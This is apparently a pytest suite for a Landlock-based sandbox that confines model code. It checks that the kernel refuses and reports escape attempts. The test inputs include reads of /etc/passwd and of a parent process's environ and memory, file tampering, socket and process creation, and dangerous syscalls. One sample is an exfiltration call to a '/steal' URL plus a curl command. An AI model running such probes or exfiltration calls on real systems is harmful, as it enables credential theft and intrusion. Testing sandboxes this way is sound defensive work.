# SPDX-License-Identifier: Apache-2.0
"""What code of a model tries in a confined process: refused by the kernel, and told.

The code runs in a real one, under all of Landlock and under what its first version has.
"""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import pytest

from keras_integrity_hook.isolation.attempts import Source
from tests.support.confined import ABIS, bare, needs_sandbox

pytestmark = [needs_sandbox, pytest.mark.parametrize("abi", ABIS)]

CALLS = """
    import ctypes, errno, json, os
    libc = ctypes.CDLL(None, use_errno=True)
    def call(number, *arguments):
        if libc.syscall(ctypes.c_long(number), *arguments) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    def tried(work):
        try:
            work()
        except OSError as error:
            print(errno.errorcode[error.errno], flush=True)
        else:
            print("DONE", flush=True)
"""


def outcome(work: str, abi: int | None) -> tuple[list[str], list[tuple[str, str]]]:
    """What each line of ``work``, an expression, came to, and what the kernel told of it."""
    lines = textwrap.dedent(work).strip().splitlines()
    code = textwrap.dedent(CALLS) + "\n".join(f"tried(lambda: {line})" for line in lines)
    with bare(code, abi=abi) as process:
        assert process.abi == abi or abi is None
        told = [
            (each.call, each.target) for each in process.attempts if each.source is Source.KERNEL
        ]
        return process.printed.split(), told


def identity(file: Path) -> tuple[int, ...]:
    """What is different about ``file`` once somebody has changed it in any way."""
    status = file.stat()
    return status.st_ino, status.st_mode, status.st_uid, status.st_size, status.st_ctime_ns


def test_files_of_others_are_neither_read_nor_listed(tmp_path: Path, abi: int | None) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret")
    work = f"""
        open({str(secret)!r})
        open("/proc/self/root{secret}")
        os.symlink({str(secret)!r}, "link") or open("link")
        open("/etc/passwd")
        open(f"/proc/{{os.getppid()}}/environ")
        open(f"/proc/{{os.getppid()}}/mem", "rb")
        os.listdir({str(tmp_path)!r})
        os.chdir({str(tmp_path)!r}) or open("secret")
    """
    results, told = outcome(work, abi)
    assert results == ["EACCES"] * 8
    assert ("openat", str(secret)) in told
    assert ("openat", "/etc/passwd") in told
    assert ("openat", f"/proc/{os.getpid()}/mem") in told
    assert ("openat", str(tmp_path)) in told
    assert ("chdir", str(tmp_path)) in told


def test_files_of_others_are_not_changed_in_any_way(tmp_path: Path, abi: int | None) -> None:
    file = tmp_path / "file"
    file.write_text("content")
    before = identity(file)
    name = repr(str(file))
    work = f"""
        open({name}, "w")
        open({name}, "a")
        os.open({name}, os.O_RDONLY | os.O_TRUNC)
        os.open({name}, 3 | os.O_TRUNC)
        os.truncate({name}, 0)
        os.unlink({name})
        os.rename({name}, {name} + "2")
        os.rename({name}, "stolen")
        os.chmod({name}, 0o777)
        os.chown({name}, 1, 1)
        os.utime({name})
        os.setxattr({name}, "user.x", b"1")
        os.symlink("x", {name} + "2")
        os.mkdir({name} + "2")
        os.mkfifo({name} + "2")
        os.mknod("null", 0o20666, os.makedev(1, 3))
    """
    results, told = outcome(work, abi)
    assert "DONE" not in results
    assert len(results) == 16
    assert file.read_text() == "content"
    assert identity(file) == before
    assert [path.name for path in tmp_path.iterdir()] == ["file"]
    assert {"openat", "truncate", "unlink", "rename", "chmod", "mkdir"} <= {
        call for call, _ in told
    }
    assert any(target.startswith(f"{file} (flags") for _, target in told)


def test_libraries_that_can_be_read_are_not_cut_and_not_made_writable(abi: int | None) -> None:
    """Before its third version Landlock lets a file that can be read be truncated by an open."""
    library = Path(json.__file__)
    before = identity(library)
    work = f"""
        os.open({str(library)!r}, os.O_RDONLY | os.O_TRUNC)
        os.fchmod(os.open({str(library)!r}, os.O_RDONLY), 0o777)
        os.link({str(library)!r}, "here")
    """
    results, _ = outcome(work, abi)
    assert "DONE" not in results
    assert identity(library) == before


def test_there_are_no_sockets(abi: int | None) -> None:
    families = ("AF_UNIX", "AF_INET", "AF_INET6", "AF_NETLINK", "AF_ALG", "AF_VSOCK")
    work = "\n".join(f"__import__('socket').socket({family})" for family in (1, 2, 10, 16, 38, 40))
    results, told = outcome(work + "\n__import__('socket').socketpair()", abi)
    assert results == ["EPERM"] * 7
    assert {("socket", family) for family in families} <= set(told)


def test_there_are_no_other_processes(abi: int | None) -> None:
    work = """
        os.fork()
        os.execv("/bin/true", ["true"])
        __import__("subprocess").run(["true"])
        os.posix_spawn("/bin/true", ["true"], {})
    """
    results, told = outcome(work, abi)
    assert results == ["EPERM"] * 4
    assert ("execve", "/bin/true") in told
    assert ("clone", "a new process") in told


def test_others_are_not_signalled_traced_or_limited(abi: int | None) -> None:
    parent = os.getpid()
    work = f"""
        os.kill({parent}, 0)
        os.kill(-1, 0)
        os.kill(0, 0)
        os.killpg(os.getpgrp(), 0)
        os.pidfd_open({parent})
        __import__("resource").prlimit({parent}, 7)
        __import__("fcntl").fcntl(0, 8, {parent})
        os.sched_setaffinity({parent}, [0])
        os.setpriority(os.PRIO_PROCESS, {parent}, 19)
    """
    results, told = outcome(work, abi)
    assert results == ["EPERM"] * 9
    assert ("kill", f"process {parent}") in told
    assert ("pidfd_open", f"process {parent}") in told


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the numbers are those of x86-64")
def test_calls_that_no_model_needs_are_refused(abi: int | None) -> None:
    numbers = {
        "ptrace": 101, "process_vm_readv": 310, "io_uring_setup": 425, "userfaultfd": 323,
        "keyctl": 250, "add_key": 248, "bpf": 321, "perf_event_open": 298, "mount": 165,
        "unshare": 272, "setns": 308, "shmget": 29, "semget": 64, "msgget": 68, "mq_open": 240,
        "memfd_create": 319, "memfd_secret": 447, "seccomp": 317, "openat2": 437, "setuid": 105,
        "chroot": 161, "pivot_root": 155, "reboot": 169, "kexec_load": 246, "init_module": 175,
        "open_by_handle_at": 304, "landlock_restrict_self": 446, "vmsplice": 278, "tkill": 200,
        "pidfd_getfd": 438, "kcmp": 312, "quotactl": 179, "syslog": 103, "iopl": 172, "acct": 163,
    }  # fmt: skip
    results, told = outcome("\n".join(f"call({n}, 0, 0, 0, 0)" for n in numbers.values()), abi)
    assert results == ["EPERM"] * len(numbers)
    assert set(numbers) <= {call for call, _ in told}


def test_it_stays_closed_to_others_and_gains_no_privileges(abi: int | None) -> None:
    work = """
        call(157, 4, 1, 0, 0)
        call(157, 0x59616d61, os.getppid(), 0, 0)
        os.setuid(12345)
    """
    results, _ = outcome(work, abi)
    assert results == ["EPERM"] * 3
    code = "print(open('/proc/self/status').read().replace('\\t', ' '))"
    with bare(code, abi=abi) as process:
        status = dict(line.split(":", 1) for line in process.printed.splitlines() if ":" in line)
    assert status["NoNewPrivs"].strip() == "1"
    assert int(status["CapEff"], 16) & ~(1 << 2) == 0
    assert int(status["CapBnd"], 16) == 0 or os.geteuid() != 0


def test_a_call_by_the_numbers_of_another_architecture_ends_it(abi: int | None) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("x32 is of x86-64")
    from keras_integrity_hook.errors import SandboxViolationError

    code = "import ctypes; ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 + 39))"
    with pytest.raises(SandboxViolationError, match="another architecture"), bare(code, abi=abi):
        pass


def test_its_own_directory_is_for_it_to_use(abi: int | None) -> None:
    code = """
        import os, shutil, tempfile, threading
        with tempfile.TemporaryDirectory() as folder:
            with open(folder + "/a", "w") as file:
                file.write("text")
            os.rename(folder + "/a", folder + "/b")
            os.makedirs(folder + "/c/d")
            shutil.rmtree(folder + "/c")
            print(open(folder + "/b").read())
        thread = threading.Thread(target=print, args=("thread",))
        thread.start(); thread.join()
        open("/dev/null", "w").write("x")
        print(open(path).read())
    """
    with bare(code, abi=abi) as process:
        assert process.printed.split() == ["text", "thread", "model"]
        assert not len(process.attempts)


def test_names_of_hosts_and_commands_are_told_by_python(abi: int | None) -> None:
    code = """
        import subprocess, urllib.request
        for work in (
            lambda: urllib.request.urlopen("http://198.51.100.7:8000/steal"),
            lambda: subprocess.run(["curl", "http://198.51.100.7"]),
        ):
            try:
                work()
            except OSError:
                pass
    """
    with bare(code, abi=abi) as process:
        told = {(each.call, each.source): each.target for each in process.attempts}
    assert "http://198.51.100.7:8000/steal" in told["urllib.Request", Source.PYTHON]
    assert "curl http://198.51.100.7" in told["subprocess.Popen", Source.PYTHON]


def test_secrets_in_the_environment_are_not_handed_on(
    monkeypatch: pytest.MonkeyPatch, abi: int | None
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
    monkeypatch.setenv("HF_TOKEN", "secret")
    monkeypatch.setenv("PYTHONPATH", "/secret")
    with bare("import os; print(dict(os.environ))", abi=abi) as process:
        assert "secret" not in process.printed
